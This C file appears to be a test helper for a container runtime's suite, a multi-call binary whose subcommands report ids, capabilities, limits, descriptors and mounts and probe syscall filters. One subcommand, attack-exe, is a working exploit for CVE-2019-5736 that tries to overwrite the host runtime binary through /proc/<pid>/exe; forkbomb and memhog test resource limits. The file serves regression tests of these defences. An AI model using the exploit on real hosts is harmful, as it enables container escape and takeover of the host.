/* tests/helpers/init.c: the helper that test containers run, so the suite
 * needs no image.  A static multi-call binary: `/init SUBCOMMAND [ARGS...]`.
 *
 * Each subcommand prints what it found on stdout and exits 0; a failure to
 * find it prints `init: <subcommand>: <reason>` on stderr and exits 1; bad
 * usage or an unknown subcommand exits 2.  `/init help` lists them. */

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <math.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>

#define EXIT_USAGE 2

extern char **environ;

static const char *cmd_name = "init";

static int fail(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

/* Print `init: <subcommand>: <message>` on stderr; returns 1 for `return fail(...)`. */
static int fail(const char *fmt, ...)
{
	va_list ap;

	fflush(stdout);
	fprintf(stderr, "init: %s: ", cmd_name);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	return 1;
}

static int usage(const char *args)
{
	fprintf(stderr, "usage: init %s %s\n", cmd_name, args);
	return EXIT_USAGE;
}

/* Parse a whole decimal (or 0x, 0 prefixed) integer. */
static bool parse_long(const char *s, long long *out)
{
	char *end;

	if (*s == '\0')
		return false;
	errno = 0;
	*out = strtoll(s, &end, 0);
	return errno == 0 && *end == '\0';
}

static int copy_fd(int fd)
{
	char buf[8192];
	ssize_t n;

	while ((n = read(fd, buf, sizeof(buf))) != 0) {
		if (n < 0) {
			if (errno == EINTR)
				continue;
			return -1;
		}
		if (fwrite(buf, 1, (size_t) n, stdout) != (size_t) n)
			return -1;
	}
	return 0;
}

static int cat_path(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	int ret;

	if (fd < 0)
		return fail("%s: %s", path, strerror(errno));
	ret = copy_fd(fd);
	if (ret < 0)
		ret = fail("%s: %s", path, strerror(errno));
	close(fd);
	return ret;
}

static int do_cat(int argc, char **argv)
{
	int ret = 0;

	if (argc < 1)
		return usage("FILE...");
	for (int i = 0; i < argc; i++)
		if (cat_path(argv[i]))
			ret = 1;
	return ret;
}

static int do_readlink(int argc, char **argv)
{
	char buf[PATH_MAX + 1];
	ssize_t n;

	if (argc != 1)
		return usage("PATH");
	n = readlink(argv[0], buf, sizeof(buf) - 1);
	if (n < 0)
		return fail("%s: %s", argv[0], strerror(errno));
	buf[n] = '\0';
	printf("%s\n", buf);
	return 0;
}

static const char *file_type(mode_t mode)
{
	switch (mode & S_IFMT) {
	case S_IFREG:
		return "file";
	case S_IFDIR:
		return "dir";
	case S_IFLNK:
		return "symlink";
	case S_IFCHR:
		return "char";
	case S_IFBLK:
		return "block";
	case S_IFIFO:
		return "fifo";
	case S_IFSOCK:
		return "socket";
	}
	return "unknown";
}

/* `stat PATH` does not follow a final symlink: it says what is there.
 *   mode=0666 uid=0 gid=0 type=char dev=1:3
 * dev= (the device number a node stands for) only for char and block nodes. */
static int do_stat(int argc, char **argv)
{
	struct stat st;

	if (argc != 1)
		return usage("PATH");
	if (lstat(argv[0], &st) < 0)
		return fail("%s: %s", argv[0], strerror(errno));
	printf("mode=%04o uid=%u gid=%u type=%s", (unsigned) (st.st_mode & 07777),
	       (unsigned) st.st_uid, (unsigned) st.st_gid, file_type(st.st_mode));
	if (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode))
		printf(" dev=%u:%u", major(st.st_rdev), minor(st.st_rdev));
	printf("\n");
	return 0;
}

/* `isatty FD` prints yes or no, and exits 0 only for yes. */
static int do_isatty(int argc, char **argv)
{
	long long fd;

	if (argc != 1 || !parse_long(argv[0], &fd) || fd < 0 || fd > INT_MAX)
		return usage("FD");
	if (isatty((int) fd)) {
		printf("yes\n");
		return 0;
	}
	printf("no\n");
	return 1;
}

static int do_getuid(int argc, char **argv)
{
	gid_t groups[NGROUPS_MAX];
	int n = getgroups(NGROUPS_MAX, groups);

	if (n < 0)
		return fail("getgroups: %s", strerror(errno));
	printf("uid=%u gid=%u euid=%u egid=%u groups=", (unsigned) getuid(), (unsigned) getgid(),
	       (unsigned) geteuid(), (unsigned) getegid());
	for (int i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", (unsigned) groups[i]);
	printf("\n");
	return 0;
}

/* Print the lines of /proc/self/status whose key is in `keys`, in file order. */
static int print_status_lines(const char *const *keys)
{
	FILE *f = fopen("/proc/self/status", "re");
	char line[512];
	int found = 0;

	if (!f)
		return fail("/proc/self/status: %s", strerror(errno));
	while (fgets(line, sizeof(line), f)) {
		for (const char *const *k = keys; *k; k++) {
			size_t len = strlen(*k);
			if (strncmp(line, *k, len) == 0 && line[len] == ':') {
				fputs(line, stdout);
				found++;
			}
		}
	}
	fclose(f);
	if (found == 0)
		return fail("no such lines in /proc/self/status");
	return 0;
}

static int do_caps(int argc, char **argv)
{
	static const char *const keys[] = {
		"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", NULL
	};

	return print_status_lines(keys);
}

static int do_pid(int argc, char **argv)
{
	printf("%d\n", (int) getpid());
	return 0;
}

/* sid: the session id and the process group id, as the process sees them
 * (0 for a leader outside its pid namespace). */
static int do_sid(int argc, char **argv)
{
	printf("%d %d\n", (int) getsid(0), (int) getpgid(0));
	return 0;
}

static int do_ppid(int argc, char **argv)
{
	printf("%d\n", (int) getppid());
	return 0;
}

static int do_cwd(int argc, char **argv)
{
	char buf[PATH_MAX];

	if (!getcwd(buf, sizeof(buf)))
		return fail("getcwd: %s", strerror(errno));
	printf("%s\n", buf);
	return 0;
}

static int do_env(int argc, char **argv)
{
	for (char **e = environ; e && *e; e++)
		printf("%s\n", *e);
	return 0;
}

static int do_hostname(int argc, char **argv)
{
	struct utsname u;

	if (uname(&u) < 0)
		return fail("uname: %s", strerror(errno));
	printf("%s\n", u.nodename);
	return 0;
}

static int do_domainname(int argc, char **argv)
{
	struct utsname u;

	if (uname(&u) < 0)
		return fail("uname: %s", strerror(errno));
	printf("%s\n", u.domainname);
	return 0;
}

static int do_umask(int argc, char **argv)
{
	mode_t m = umask(0);

	umask(m);
	printf("%04o\n", (unsigned) m);
	return 0;
}

static const struct {
	const char *name;
	int resource;
} rlimits[] = {
	{ "AS", RLIMIT_AS },
	{ "CORE", RLIMIT_CORE },
	{ "CPU", RLIMIT_CPU },
	{ "DATA", RLIMIT_DATA },
	{ "FSIZE", RLIMIT_FSIZE },
	{ "LOCKS", RLIMIT_LOCKS },
	{ "MEMLOCK", RLIMIT_MEMLOCK },
	{ "MSGQUEUE", RLIMIT_MSGQUEUE },
	{ "NICE", RLIMIT_NICE },
	{ "NOFILE", RLIMIT_NOFILE },
	{ "NPROC", RLIMIT_NPROC },
	{ "RSS", RLIMIT_RSS },
	{ "RTPRIO", RLIMIT_RTPRIO },
	{ "RTTIME", RLIMIT_RTTIME },
	{ "SIGPENDING", RLIMIT_SIGPENDING },
	{ "STACK", RLIMIT_STACK },
};

static void print_rlim(rlim_t v)
{
	if (v == RLIM_INFINITY)
		printf("unlimited");
	else
		printf("%llu", (unsigned long long) v);
}

/* `rlimit NOFILE` (or RLIMIT_NOFILE, any case) prints `soft hard`;
 * RLIM_INFINITY prints as `unlimited`. */
static int do_rlimit(int argc, char **argv)
{
	const char *name;
	struct rlimit rl;

	if (argc != 1)
		return usage("NAME");
	name = argv[0];
	if (strncasecmp(name, "RLIMIT_", 7) == 0)
		name += 7;
	for (size_t i = 0; i < sizeof(rlimits) / sizeof(rlimits[0]); i++) {
		if (strcasecmp(name, rlimits[i].name) != 0)
			continue;
		if (getrlimit(rlimits[i].resource, &rl) < 0)
			return fail("getrlimit: %s", strerror(errno));
		print_rlim(rl.rlim_cur);
		printf(" ");
		print_rlim(rl.rlim_max);
		printf("\n");
		return 0;
	}
	fprintf(stderr, "init: rlimit: unknown limit `%s`\n", argv[0]);
	return EXIT_USAGE;
}

static int cmp_int(const void *a, const void *b)
{
	int x = *(const int *) a, y = *(const int *) b;

	return (x > y) - (x < y);
}

/* `fds` prints the open descriptors, ascending, on one line: `0 1 2`. */
static int do_fds(int argc, char **argv)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *de;
	int *fds = NULL;
	size_t n = 0, cap = 0;
	int self;

	if (!d)
		return fail("/proc/self/fd: %s", strerror(errno));
	self = dirfd(d);
	while ((de = readdir(d))) {
		long long fd;
		if (!parse_long(de->d_name, &fd) || fd == self)
			continue;
		if (n == cap) {
			cap = cap ? cap * 2 : 64;
			fds = realloc(fds, cap * sizeof(*fds));
			if (!fds)
				return fail("out of memory");
		}
		fds[n++] = (int) fd;
	}
	closedir(d);
	qsort(fds, n, sizeof(*fds), cmp_int);
	for (size_t i = 0; i < n; i++)
		printf("%s%d", i ? " " : "", fds[i]);
	printf("\n");
	free(fds);
	return 0;
}

static int do_mountinfo(int argc, char **argv)
{
	return cat_path("/proc/self/mountinfo");
}

/* `write FILE TEXT` creates or truncates FILE and writes TEXT, no newline added. */
static int do_write(int argc, char **argv)
{
	size_t len, done = 0;
	int fd;

	if (argc != 2)
		return usage("FILE TEXT");
	fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0)
		return fail("%s: %s", argv[0], strerror(errno));
	len = strlen(argv[1]);
	while (done < len) {
		ssize_t n = write(fd, argv[1] + done, len - done);
		if (n < 0) {
			if (errno == EINTR)
				continue;
			close(fd);
			return fail("%s: %s", argv[0], strerror(errno));
		}
		done += (size_t) n;
	}
	if (close(fd) < 0)
		return fail("%s: %s", argv[0], strerror(errno));
	return 0;
}

static int do_mkdir(int argc, char **argv)
{
	if (argc != 1)
		return usage("DIR");
	if (mkdir(argv[0], 0755) < 0)
		return fail("%s: %s", argv[0], strerror(errno));
	return 0;
}

static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *) a, *(char *const *) b);
}

/* `ls DIR` prints the names in DIR but . and .., sorted, one a line. */
static int do_ls(int argc, char **argv)
{
	struct dirent *de;
	char **names = NULL;
	size_t n = 0, cap = 0;
	DIR *d;

	if (argc != 1)
		return usage("DIR");
	d = opendir(argv[0]);
	if (!d)
		return fail("%s: %s", argv[0], strerror(errno));
	while ((de = readdir(d))) {
		if (strcmp(de->d_name, ".") == 0 || strcmp(de->d_name, "..") == 0)
			continue;
		if (n == cap) {
			cap = cap ? cap * 2 : 64;
			names = realloc(names, cap * sizeof(*names));
			if (!names)
				return fail("out of memory");
		}
		names[n] = strdup(de->d_name);
		if (!names[n])
			return fail("out of memory");
		n++;
	}
	closedir(d);
	qsort(names, n, sizeof(*names), cmp_str);
	for (size_t i = 0; i < n; i++) {
		printf("%s\n", names[i]);
		free(names[i]);
	}
	free(names);
	return 0;
}

/* count FILE: append 1, 2, 3 ... to FILE, one line every 50 ms, forever.
 * Its stdio becomes the container's /dev/null first, so a checkpoint of it
 * holds no descriptor of the host's (the files bats hands a detached
 * container); FILE stays open across the loop, as a real workload's would. */
static int do_count(int argc, char **argv)
{
	const struct timespec tick = { .tv_nsec = 50 * 1000 * 1000 };
	unsigned long i = 0;
	int fd, null;

	if (argc != 1)
		return usage("FILE");
	fd = open(argv[0], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (fd < 0)
		return fail("%s: %s", argv[0], strerror(errno));
	null = open("/dev/null", O_RDWR | O_CLOEXEC);
	if (null < 0)
		return fail("/dev/null: %s", strerror(errno));
	for (int std = 0; std < 3; std++) {
		if (dup2(null, std) < 0)
			return fail("dup2: %s", strerror(errno));
	}
	close(null);
	for (;;) {
		char line[32];
		int n = snprintf(line, sizeof(line), "%lu\n", ++i);

		if (write(fd, line, (size_t) n) != n)
			return fail("%s: %s", argv[0], strerror(errno));
		nanosleep(&tick, NULL);
	}
}

/* `sleep SECONDS`: fractional seconds; `inf` or `infinity` sleeps for ever. */
/* A process other than us whose command line has NEEDLE as an argument. */
static pid_t find_by_arg(const char *needle)
{
	DIR *d = opendir("/proc");
	struct dirent *de;
	pid_t found = 0;

	while (d != NULL && found == 0 && (de = readdir(d)) != NULL) {
		char path[64], buf[4096];
		pid_t pid = (pid_t) atoi(de->d_name);
		ssize_t n;
		int fd;

		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/cmdline", (int) pid);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		n = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		for (ssize_t i = 0; n > 0 && i < n; i += (ssize_t) strlen(buf + i) + 1) {
			buf[n] = '\0';
			if (strcmp(buf + i, needle) == 0)
				found = pid;
		}
	}
	if (d != NULL)
		closedir(d);
	return found;
}

/* attack-exe FIFO: CVE-2019-5736 from inside the container.  Makes FIFO
 * and waits for a process that names it in its argv: husk, exec'd through
 * a link to /proc/self/exe and blocked opening FIFO as its --log.  Keeps an
 * O_PATH descriptor of that process's /proc/<pid>/exe (a process still
 * joining the container is non-dumpable: EACCES, and the search goes on),
 * lets it finish, reaps it (as pid 1 it is ours) and then tries to open
 * the binary behind the descriptor for writing and overwrite it.  Prints
 * "wrote" or "write refused: ERRNO". */
static int do_attack_exe(int argc, char **argv)
{
	char path[64], buf[256];
	int exefd = -1, rfd, eacces = 0;
	pid_t victim = 0;

	if (argc != 1)
		return usage("FIFO");
	if (mkfifo(argv[0], 0666) < 0)
		return fail("mkfifo %s: %s", argv[0], strerror(errno));
	for (int i = 0; i < 3000 && exefd < 0; i++) {
		victim = find_by_arg(argv[0]);
		if (victim > 0) {
			snprintf(path, sizeof(path), "/proc/%d/exe", (int) victim);
			exefd = open(path, O_PATH | O_CLOEXEC);
			eacces += exefd < 0 && errno == EACCES;
		}
		if (exefd < 0)
			usleep(10000);
	}
	if (exefd < 0)
		return fail("no process with %s in its argv (%d refused)", argv[0], eacces);
	rfd = open(argv[0], O_RDONLY | O_CLOEXEC);
	while (rfd >= 0 && read(rfd, buf, sizeof(buf)) > 0)
		;
	while (kill(victim, 0) == 0) {
		waitpid(victim, NULL, WNOHANG);
		usleep(10000);
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", exefd);
	for (int i = 0; i < 200; i++) {
		static const char evil[] = "#!/bin/sh\necho pwned\n";
		int w = open(path, O_WRONLY | O_CLOEXEC);

		if (w >= 0) {
			if (write(w, evil, sizeof(evil) - 1) == (ssize_t) sizeof(evil) - 1) {
				printf("wrote\n");
				return 0;
			}
			printf("write refused: %s\n", strerrorname_np(errno));
			return 0;
		}
		if (errno != ETXTBSY)
			break;
		usleep(10000); /* another process still runs that binary */
	}
	printf("write refused: %s\n", strerrorname_np(errno));
	return 0;
}

static int do_sleep(int argc, char **argv)
{
	struct timespec ts;
	char *end;
	double secs;

	if (argc != 1)
		return usage("SECONDS");
	errno = 0;
	secs = strtod(argv[0], &end);
	if (errno || *end || end == argv[0] || !(secs >= 0))
		return usage("SECONDS");
	if (isinf(secs) || secs > (double) INT32_MAX) {
		for (;;)
			pause();
	}
	ts.tv_sec = (time_t) secs;
	ts.tv_nsec = (long) ((secs - (double) ts.tv_sec) * 1e9);
	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
	return 0;
}

static int do_exit(int argc, char **argv)
{
	long long code;

	if (argc != 1 || !parse_long(argv[0], &code))
		return usage("CODE");
	fflush(stdout);
	_exit((int) (code & 0xff));
}

static const struct {
	const char *name;
	int sig;
} signals[] = {
	{ "HUP", SIGHUP },   { "INT", SIGINT },       { "QUIT", SIGQUIT }, { "ILL", SIGILL },
	{ "TRAP", SIGTRAP }, { "ABRT", SIGABRT },     { "IOT", SIGIOT },   { "BUS", SIGBUS },
	{ "FPE", SIGFPE },   { "KILL", SIGKILL },     { "USR1", SIGUSR1 }, { "SEGV", SIGSEGV },
	{ "USR2", SIGUSR2 }, { "PIPE", SIGPIPE },     { "ALRM", SIGALRM }, { "TERM", SIGTERM },
	{ "CHLD", SIGCHLD }, { "CONT", SIGCONT },     { "STOP", SIGSTOP }, { "TSTP", SIGTSTP },
	{ "TTIN", SIGTTIN }, { "TTOU", SIGTTOU },     { "URG", SIGURG },   { "XCPU", SIGXCPU },
	{ "XFSZ", SIGXFSZ }, { "VTALRM", SIGVTALRM }, { "PROF", SIGPROF }, { "WINCH", SIGWINCH },
	{ "IO", SIGIO },     { "PWR", SIGPWR },       { "SYS", SIGSYS },
};

/* A signal by number, name, or SIG-prefixed name, any case. */
static int parse_signal(const char *s)
{
	long long n;

	if (parse_long(s, &n))
		return n > 0 && n < NSIG ? (int) n : -1;
	if (strncasecmp(s, "SIG", 3) == 0)
		s += 3;
	for (size_t i = 0; i < sizeof(signals) / sizeof(signals[0]); i++)
		if (strcasecmp(s, signals[i].name) == 0)
			return signals[i].sig;
	return -1;
}

/* Raise a fault that the kernel forces on us: this kills even the init of a
 * pid namespace, which ignores the signals it sends itself. */
static void fault(int sig)
{
	static volatile int zero, one = 1;
	static int *volatile null;

	switch (sig) {
	case SIGSEGV:
		*null = 1;
		break;
	case SIGFPE:
		zero = one / zero;
		break;
	case SIGILL:
		__builtin_trap();
		break;
#if defined(__x86_64__) || defined(__i386__)
	case SIGTRAP:
		__asm__ volatile("int3");
		break;
#endif
	}
}

/* `kill-self SIGNAL` dies by SIGNAL.  As the init of a pid namespace only the
 * faults (SEGV FPE ILL, and TRAP on x86) can do that; any other signal leaves
 * it alive, which exits 125 with a message. */
static int do_kill_self(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = SIG_DFL };
	sigset_t set;
	int sig;

	if (argc != 1 || (sig = parse_signal(argv[0])) < 0)
		return usage("SIGNAL");
	fflush(stdout);
	sigaction(sig, &sa, NULL);
	sigemptyset(&set);
	sigaddset(&set, sig);
	sigprocmask(SIG_UNBLOCK, &set, NULL);
	fault(sig);
	kill(getpid(), sig);
	/* A stop signal stops us here; a CONT, CHLD, URG or WINCH is ignored. */
	fail("still alive after signal %d (the init of a pid namespace ignores its own signals)",
	     sig);
	return 125;
}

/* `forkbomb N` forks up to N children that sleep, stopping early at EAGAIN
 * (a pids limit, RLIMIT_NPROC), prints how many it made, then kills and
 * reaps them.  Exits 0 unless fork failed some other way. */
static int do_forkbomb(int argc, char **argv)
{
	long long want;
	pid_t *pids = NULL;
	size_t made = 0, cap = 0;
	int err = 0;

	if (argc != 1 || !parse_long(argv[0], &want) || want < 0)
		return usage("N");
	fflush(stdout);
	fflush(stderr);
	while ((long long) made < want) {
		pid_t pid;
		if (made == cap) {
			pid_t *more = realloc(pids, (cap ? cap * 2 : 256) * sizeof(*pids));
			if (!more) {
				err = ENOMEM;
				break;
			}
			pids = more;
			cap = cap ? cap * 2 : 256;
		}
		pid = fork();
		if (pid == 0) {
			prctl(PR_SET_PDEATHSIG, SIGKILL);
			for (;;)
				pause();
		}
		if (pid < 0) {
			err = errno;
			break;
		}
		pids[made++] = pid;
	}
	printf("%zu\n", made);
	fflush(stdout);
	for (size_t i = 0; i < made; i++)
		kill(pids[i], SIGKILL);
	for (size_t i = 0; i < made; i++)
		while (waitpid(pids[i], NULL, 0) < 0 && errno == EINTR)
			;
	free(pids);
	if (err && err != EAGAIN)
		return fail("fork: %s", strerror(err));
	return 0;
}

/* `memhog MEGABYTES` maps and touches that much anonymous memory, then
 * prints `ok MEGABYTES`.  A memory limit shows as an OOM kill (SIGKILL). */
static int do_memhog(int argc, char **argv)
{
	long long mb;
	size_t len, page = (size_t) sysconf(_SC_PAGESIZE);
	char *p;

	if (argc != 1 || !parse_long(argv[0], &mb) || mb < 0 || mb > (long long) (SIZE_MAX >> 21))
		return usage("MEGABYTES");
	len = (size_t) mb << 20;
	if (len == 0) {
		printf("ok 0\n");
		return 0;
	}
	p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		return fail("mmap %lld MiB: %s", mb, strerror(errno));
	for (size_t off = 0; off < len; off += page)
		p[off] = 1;
	printf("ok %lld\n", mb);
	return 0;
}

#define SC(name)                  \
	{                         \
#name, SYS_##name \
	}

static const struct {
	const char *name;
	long nr;
} syscalls[] = {
	SC(accept),
	SC(acct),
	SC(add_key),
	SC(bpf),
	SC(chdir),
#ifdef SYS_chmod
	SC(chmod),
#endif
#ifdef SYS_chown
	SC(chown),
#endif
	SC(chroot),
	SC(clone),
#ifdef SYS_clone3
	SC(clone3),
#endif
	SC(close),
	SC(connect),
	SC(delete_module),
	SC(fchmodat),
	SC(fchownat),
	SC(finit_module),
#ifdef SYS_fork
	SC(fork),
#endif
	SC(getcwd),
	SC(getegid),
	SC(geteuid),
	SC(getgid),
	SC(getpid),
	SC(getppid),
	SC(gettid),
	SC(getuid),
	SC(init_module),
	SC(io_uring_setup),
	SC(ioctl),
	SC(kexec_load),
	SC(keyctl),
	SC(kill),
	SC(mkdirat),
#ifdef SYS_mkdir
	SC(mkdir),
#endif
#ifdef SYS_mknod
	SC(mknod),
#endif
	SC(mknodat),
	SC(mount),
	SC(name_to_handle_at),
#ifdef SYS_open
	SC(open),
#endif
	SC(open_by_handle_at),
	SC(openat),
#ifdef SYS_openat2
	SC(openat2),
#endif
	SC(perf_event_open),
	SC(personality),
	SC(pivot_root),
	SC(prctl),
	SC(process_vm_readv),
	SC(ptrace),
	SC(quotactl),
	SC(read),
	SC(reboot),
	SC(request_key),
	SC(setdomainname),
	SC(setgid),
	SC(sethostname),
	SC(setns),
	SC(setuid),
	SC(socket),
	SC(socketpair),
	SC(swapoff),
	SC(swapon),
	SC(syslog),
	SC(umask),
	SC(umount2),
	SC(uname),
	SC(unshare),
	SC(userfaultfd),
#ifdef SYS_vfork
	SC(vfork),
#endif
	SC(write),
};

static const char *errno_name(int e)
{
	const char *name = strerrorname_np(e);

	return name ? name : "UNKNOWN";
}

/* `try-syscall NAME [ARGS...]` makes the raw system call with up to six
 * arguments: an argument that parses as an integer (0x and 0 prefixes too)
 * is passed as one, any other as a pointer to the string.  Prints `ok RET`
 * or `errno N ENAME` and exits 0, or dies by the signal a filter sends.
 * A child of clone, fork or vfork exits 0 at once; the parent reaps it. */
static int do_try_syscall(int argc, char **argv)
{
	long args[6] = { 0 };
	long nr = -1, ret;
	bool forks;

	if (argc < 1 || argc > 7)
		return usage("NAME [ARGS...]");
	for (size_t i = 0; i < sizeof(syscalls) / sizeof(syscalls[0]); i++)
		if (strcmp(argv[0], syscalls[i].name) == 0)
			nr = syscalls[i].nr;
	if (nr < 0) {
		fprintf(stderr, "init: try-syscall: unknown system call `%s`\n", argv[0]);
		return EXIT_USAGE;
	}
	for (int i = 1; i < argc; i++) {
		long long v;
		args[i - 1] = parse_long(argv[i], &v) ? (long) v : (long) (uintptr_t) argv[i];
	}
	forks = strcmp(argv[0], "clone") == 0 || strcmp(argv[0], "fork") == 0 ||
		strcmp(argv[0], "vfork") == 0;
	fflush(stdout);
	fflush(stderr);
	errno = 0;
	ret = syscall(nr, args[0], args[1], args[2], args[3], args[4], args[5]);
	if (ret == -1 && errno) {
		int e = errno;
		printf("errno %d %s\n", e, errno_name(e));
		return 0;
	}
	if (forks && ret == 0)
		_exit(0);
	if (forks && ret > 0)
		waitpid((pid_t) ret, NULL, __WALL);
	printf("ok %ld\n", ret);
	return 0;
}

/* `i386-getpid` makes getpid through the 32-bit entry (int 0x80, number 20
 * there) and prints `ok PID`, or dies by the signal a filter sends; exits
 * 77 where there is no such entry (not x86-64). */
static int do_i386_getpid(int argc, char **argv)
{
#if defined(__x86_64__)
	long ret;

	(void) argv;
	if (argc != 0)
		return usage("");
	fflush(stdout);
	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(20L) : "memory");
	printf("ok %ld\n", ret);
	return 0;
#else
	(void) argc;
	(void) argv;
	printf("no 32-bit entry on this architecture\n");
	return 77;
#endif
}

static int do_nop(int argc, char **argv)
{
	return 0;
}

static int do_help(int argc, char **argv);

static const struct {
	const char *name;
	int (*fn)(int argc, char **argv);
	const char *args;
} commands[] = {
	{ "attack-exe", do_attack_exe, "FIFO" },
	{ "cat", do_cat, "FILE..." },
	{ "count", do_count, "FILE" },
	{ "caps", do_caps, "" },
	{ "cwd", do_cwd, "" },
	{ "domainname", do_domainname, "" },
	{ "env", do_env, "" },
	{ "exit", do_exit, "CODE" },
	{ "fds", do_fds, "" },
	{ "forkbomb", do_forkbomb, "N" },
	{ "getuid", do_getuid, "" },
	{ "help", do_help, "" },
	{ "hostname", do_hostname, "" },
	{ "i386-getpid", do_i386_getpid, "" },
	{ "isatty", do_isatty, "FD" },
	{ "kill-self", do_kill_self, "SIGNAL" },
	{ "ls", do_ls, "DIR" },
	{ "memhog", do_memhog, "MEGABYTES" },
	{ "mkdir", do_mkdir, "DIR" },
	{ "mountinfo", do_mountinfo, "" },
	{ "nop", do_nop, "" },
	{ "pid", do_pid, "" },
	{ "ppid", do_ppid, "" },
	{ "readlink", do_readlink, "PATH" },
	{ "rlimit", do_rlimit, "NAME" },
	{ "sid", do_sid, "" },
	{ "sleep", do_sleep, "SECONDS" },
	{ "stat", do_stat, "PATH" },
	{ "try-syscall", do_try_syscall, "NAME [ARGS...]" },
	{ "umask", do_umask, "" },
	{ "write", do_write, "FILE TEXT" },
};

static int do_help(int argc, char **argv)
{
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		printf("%s %s\n", commands[i].name, commands[i].args);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: init SUBCOMMAND [ARGS...]; `init help` lists them\n");
		return EXIT_USAGE;
	}
	cmd_name = argv[1];
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		if (strcmp(argv[1], commands[i].name) == 0)
			return commands[i].fn(argc - 2, argv + 2);
	fprintf(stderr, "init: unknown subcommand `%s`; `init help` lists them\n", argv[1]);
	return EXIT_USAGE;
}
